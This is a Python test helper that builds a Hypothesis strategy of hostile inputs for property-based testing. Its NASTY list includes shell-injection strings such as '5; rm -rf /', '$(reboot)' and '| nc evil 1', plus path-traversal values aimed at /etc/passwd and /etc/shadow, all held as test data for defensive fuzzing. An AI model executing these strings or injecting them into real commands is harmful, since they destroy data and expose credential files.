"""Hostile input for the property tests: wrong types, NaN/inf, huge, negative, empty, unicode,
newlines, shell metacharacters, path traversal (docs/reference/bad-input.md)."""
import math

from hypothesis import strategies as st

NASTY = [
    math.nan, math.inf, -math.inf, 1e12, -1e12, 10**400, -1, 0, -0.0, 1e-300, 2**63, True, False, None,
    "", " ", "nan", "NaN", "inf", "-inf", "Infinity", "1e3", "1e400", "1_000", "0x10", "٣", "10\n", "\n",
    "5; rm -rf /", "$(reboot)", "`id`", "| nc evil 1", "../../etc/passwd", "/etc/shadow", "..", "a/../../b",
    "\x00", "é", "💥", "%", "25%", "-5%", "pause", "yes", "1:30", [], [1], {}, {"a": 1}, b"60", (1, 2),
]


def hostile(*extra, alphabet="0123456789.eE+-_% \n;$`|/\\"):
    """The hostile strategy, with ``extra`` values sampled beside NASTY."""
    return st.one_of(
        st.sampled_from(NASTY + list(extra)),
        st.floats(allow_nan=True, allow_infinity=True),
        st.integers(min_value=-(10**30), max_value=10**30),
        st.text(max_size=12),
        st.text(alphabet=alphabet, max_size=16),
        st.lists(st.one_of(st.integers(), st.floats(), st.text(max_size=4)), max_size=3),
        st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
    )


HOSTILE = hostile()
